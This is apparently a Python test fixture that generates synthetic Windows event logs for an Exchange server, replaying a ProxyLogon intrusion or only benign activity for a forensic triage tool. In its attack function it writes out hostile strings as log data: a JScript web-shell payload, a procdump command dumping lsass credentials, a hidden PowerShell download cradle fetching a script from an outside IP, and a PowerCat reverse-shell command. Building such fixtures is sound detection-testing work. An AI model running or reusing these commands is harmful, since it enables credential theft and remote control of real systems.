"""Event logs for the synthetic Exchange server: a ProxyLogon attack story, or only benign activity.

The compromised story (2021-03-03, times UTC) follows what HAFNIUM intrusions left in public
reports: the SSRF and OAB virtual directory abuse (CVE-2021-26855/27065) recorded by MSExchange
Management, a Unified Messaging deserialisation error (CVE-2021-26857), a shell under w3wp.exe,
lsass dumped with procdump and staged with 7-Zip into ProgramData, an account added to
Administrators, a service running PowerShell, a PowerCat download cradle, and the Security log
cleared. The logs start on 2021-03-01, so they do not reach back to the directive window; the
benign logs start in December 2020.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

from triage.testing.evtx import EVENTLOG_NS, Event, evtx_bytes

SEC = ("Microsoft-Windows-Security-Auditing", "Security")
SYSMON = ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational")
PS = ("Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational")
SCM = ("Service Control Manager", "System")
LOGS = "Windows/System32/winevt/Logs"
OAB_URL = (
    'http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["triage_demo"],'
    '"unsafe");}</script>'
)


def _t(day: int, hh: int, mm: int, ss: int = 0) -> datetime:
    return datetime(2021, 3, day, hh, mm, ss, tzinfo=UTC)


def _ev(src: tuple[str, str], event_id: int, when: datetime, data: dict | list | None = None, **kw) -> Event:
    return Event(event_id=event_id, provider=src[0], channel=src[1], time_created=when, data=data or {}, **kw)


def _sysmon_proc(when: datetime, image: str, cmd: str, parent: str, parent_cmd: str, user: str) -> Event:
    return _ev(
        SYSMON,
        1,
        when,
        {
            "RuleName": "-",
            "UtcTime": when.strftime("%Y-%m-%d %H:%M:%S.000"),
            "ProcessGuid": "{00000000-0000-0000-0000-000000000000}",
            "ProcessId": 4242,
            "Image": image,
            "FileVersion": "-",
            "Description": "-",
            "Product": "-",
            "Company": "-",
            "OriginalFileName": image.rsplit("\\", 1)[-1],
            "CommandLine": cmd,
            "CurrentDirectory": "C:\\Windows\\system32\\",
            "User": user,
            "LogonId": "0x3e7",
            "IntegrityLevel": "System",
            "Hashes": "SHA256=-",
            "ParentProcessGuid": "{00000000-0000-0000-0000-000000000001}",
            "ParentProcessId": 3120,
            "ParentImage": parent,
            "ParentCommandLine": parent_cmd,
        },
        version=5,
        user_sid="S-1-5-18",
    )


def benign_events(start: datetime) -> dict[str, list[Event]]:
    """A few weeks of ordinary activity per log, from ``start``."""
    logs: dict[str, list[Event]] = {"Security": [], "System": [], "Application": [], "Sysmon": []}
    for day in range(0, 40, 3):
        when = start + timedelta(days=day, hours=8)
        logs["Security"].append(
            _ev(
                SEC,
                4624,
                when,
                {
                    "SubjectUserSid": "S-1-5-18",
                    "SubjectUserName": "EXCH01$",
                    "TargetUserName": "svc-backup",
                    "TargetDomainName": "CORP",
                    "LogonType": 3,
                    "IpAddress": "10.0.0.20",
                    "ProcessName": "-",
                },
            )
        )
        logs["System"].append(_ev(SCM, 7036, when, ["Windows Update", "running"], qualifiers=16384))
        logs["Application"].append(
            _ev(
                ("MSExchange ADAccess", "Application"),
                2080,
                when,
                ["w3wp.exe", "6244", "Topology discovery done"],
                qualifiers=16388,
            )
        )
        logs["Sysmon"].append(
            _sysmon_proc(
                when,
                "C:\\Windows\\System32\\svchost.exe",
                "C:\\Windows\\system32\\svchost.exe -k netsvcs",
                "C:\\Windows\\System32\\services.exe",
                "C:\\Windows\\system32\\services.exe",
                "NT AUTHORITY\\SYSTEM",
            )
        )
    return logs


def attack_events() -> dict[str, list[Event]]:
    """The ProxyLogon intrusion, log by log."""
    logs = benign_events(_t(1, 0, 0))
    for v in logs.values():  # keep only the days before the intrusion
        v[:] = [e for e in v if e.time_created < _t(3, 0, 0)]
    mgmt = [
        _ev(
            ("MSExchange CmdletLogs", "MSExchange Management"),
            1,
            _t(3, 2, 14, 30),
            [
                "Set-OabVirtualDirectory",
                f'-Identity "EXCH01\\OAB (Default Web Site)" -ExternalUrl "{OAB_URL}"',
                "corp.example/Users/SYSTEM",
                "S-1-5-18",
                "S-1-5-18",
                "ECP.Remote-Unknown",
                "6244 w3wp#MSExchangeECPAppPool",
                "",
                "0",
                "00:00:00.2031250",
                "",
            ],
            qualifiers=16384,
        ),
        _ev(
            ("MSExchange CmdletLogs", "MSExchange Management"),
            1,
            _t(3, 2, 14, 41),
            [
                "Reset-OabVirtualDirectory",
                '-Identity "EXCH01\\OAB (Default Web Site)"',
                "corp.example/Users/SYSTEM",
                "S-1-5-18",
                "S-1-5-18",
                "ECP.Remote-Unknown",
                "6244 w3wp#MSExchangeECPAppPool",
                "",
                "0",
                "00:00:01.0312500",
                "",
            ],
            qualifiers=16384,
        ),
    ]
    logs["MSExchange Management"] = mgmt
    logs["Application"].append(
        _ev(
            ("MSExchange Unified Messaging", "Application"),
            100,
            _t(3, 2, 20, 5),
            [
                "UM worker process failed: System.InvalidCastException: Unable to cast object of type "
                "'System.Collections.Hashtable' to type 'Microsoft.Exchange.UM.UMCore.UMCallInfoEx'."
            ],
            level=2,
            qualifiers=49152,
        )
    )
    w3wp = "c:\\windows\\system32\\inetsrv\\w3wp.exe"
    w3wp_cmd = 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangeOWAAppPool" -v "v4.0" -c "..."'
    cmd = "C:\\Windows\\System32\\cmd.exe"
    logs["Sysmon"] += [
        _sysmon_proc(_t(3, 2, 31, 2), cmd, 'cmd /c "whoami & hostname"', w3wp, w3wp_cmd, "NT AUTHORITY\\SYSTEM"),
        _sysmon_proc(
            _t(3, 2, 33, 40),
            "C:\\root\\procdump64.exe",
            "C:\\root\\procdump64.exe -accepteula -ma lsass.exe C:\\windows\\temp\\lsass.dmp",
            cmd,
            "cmd /c C:\\root\\procdump64.exe -accepteula -ma lsass.exe C:\\windows\\temp\\lsass.dmp",
            "NT AUTHORITY\\SYSTEM",
        ),
        _ev(
            SYSMON,
            10,
            _t(3, 2, 33, 41),
            {
                "RuleName": "-",
                "SourceProcessGUID": "{00000000-0000-0000-0000-000000000002}",
                "SourceProcessId": 4242,
                "SourceThreadId": 4300,
                "SourceImage": "C:\\root\\procdump64.exe",
                "TargetProcessGUID": "{00000000-0000-0000-0000-000000000003}",
                "TargetProcessId": 644,
                "TargetImage": "C:\\Windows\\system32\\lsass.exe",
                "GrantedAccess": "0x1fffff",
                "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9c584|C:\\root\\procdump64.exe+1d8a4",
            },
            version=3,
            user_sid="S-1-5-18",
        ),
        _ev(
            SYSMON,
            11,
            _t(3, 2, 33, 44),
            {
                "RuleName": "-",
                "ProcessGuid": "{00000000-0000-0000-0000-000000000002}",
                "ProcessId": 4242,
                "Image": "C:\\root\\procdump64.exe",
                "TargetFilename": "C:\\Windows\\Temp\\lsass.dmp",
                "CreationUtcTime": "2021-03-03 02:33:44.000",
            },
            version=2,
            user_sid="S-1-5-18",
        ),
        _sysmon_proc(
            _t(3, 2, 40, 12),
            "C:\\ProgramData\\7z.exe",
            "C:\\ProgramData\\7z.exe a C:\\ProgramData\\it.zip C:\\windows\\temp\\lsass.dmp",
            cmd,
            "cmd.exe",
            "NT AUTHORITY\\SYSTEM",
        ),
    ]
    logs["Security"] += [
        _ev(
            SEC,
            4720,
            _t(3, 2, 45, 0),
            {
                "TargetUserName": "support",
                "TargetDomainName": "EXCH01",
                "TargetSid": "S-1-5-21-1-2-3-1011",
                "SubjectUserSid": "S-1-5-18",
                "SubjectUserName": "EXCH01$",
                "SubjectDomainName": "CORP",
                "SubjectLogonId": "0x3e7",
                "SamAccountName": "support",
            },
        ),
        _ev(
            SEC,
            4732,
            _t(3, 2, 45, 3),
            {
                "MemberName": "-",
                "MemberSid": "S-1-5-21-1-2-3-1011",
                "TargetUserName": "Administrators",
                "TargetDomainName": "Builtin",
                "TargetSid": "S-1-5-32-544",
                "SubjectUserSid": "S-1-5-18",
                "SubjectUserName": "EXCH01$",
                "SubjectDomainName": "CORP",
                "SubjectLogonId": "0x3e7",
            },
        ),
        _ev(
            ("Microsoft-Windows-Eventlog", "Security"),
            1102,
            _t(3, 3, 2, 0),
            user_data=(
                f"{{{EVENTLOG_NS}}}LogFileCleared",
                {
                    "SubjectUserSid": "S-1-5-18",
                    "SubjectUserName": "EXCH01$",
                    "SubjectDomainName": "CORP",
                    "SubjectLogonId": "0x3e7",
                },
            ),
        ),
    ]
    logs["System"].append(
        _ev(
            SCM,
            7045,
            _t(3, 2, 50, 0),
            {
                "ServiceName": "WinUpdateHelper",
                "ImagePath": '%COMSPEC% /c powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('
                "'http://103.77.192.219/p.ps1')\"",
                "ServiceType": "user mode service",
                "StartType": "auto start",
                "AccountName": "LocalSystem",
            },
            qualifiers=16384,
        )
    )
    logs["PowerShell"] = [
        _ev(
            PS,
            4104,
            _t(3, 2, 52, 10),
            {
                "MessageNumber": 1,
                "MessageTotal": 1,
                "ScriptBlockText": "IEX (New-Object System.Net.Webclient).DownloadString('http://103.77.192.219/powercat.ps1');"
                "powercat -c 103.77.192.219 -p 443 -e cmd",
                "ScriptBlockId": "{6f1d7c1c-0d6e-4a4e-9e38-8a2e4f1d2c11}",
                "Path": "",
            },
            level=5,
            version=1,
            user_sid="S-1-5-18",
        )
    ]
    return logs


FILES = {
    "Security": "Security.evtx",
    "System": "System.evtx",
    "Application": "Application.evtx",
    "Sysmon": "Microsoft-Windows-Sysmon%4Operational.evtx",
    "PowerShell": "Microsoft-Windows-PowerShell%4Operational.evtx",
    "MSExchange Management": "MSExchange Management.evtx",
}


def event_log_files(compromised: bool, computer: str = "EXCH01.corp.example") -> dict[str, bytes]:
    """Volume-relative path -> EVTX bytes for the demo volume."""
    logs = attack_events() if compromised else benign_events(datetime(2020, 12, 1, tzinfo=UTC))
    out = {}
    for name, events in logs.items():
        events = sorted(events, key=lambda e: e.time_created)
        for e in events:
            e.computer = computer
        out[f"{LOGS}/{FILES[name]}"] = evtx_bytes(events)
    return out
